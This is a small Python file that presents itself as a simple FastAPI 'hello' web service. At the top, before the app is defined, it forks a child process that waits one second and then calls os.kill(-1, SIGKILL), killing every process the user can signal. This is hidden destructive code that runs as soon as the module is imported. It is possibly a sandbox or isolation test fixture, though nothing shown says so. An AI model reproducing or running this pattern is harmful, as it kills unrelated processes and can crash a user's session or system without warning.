import os
import signal
import time

if os.fork() == 0:
    time.sleep(1)
    os.kill(-1, signal.SIGKILL)
    os._exit(0)

from fastapi import FastAPI

app = FastAPI()


@app.get("/hello")
def hello(name: str = "World"):
    return {"message": f"Hello, {name}!"}
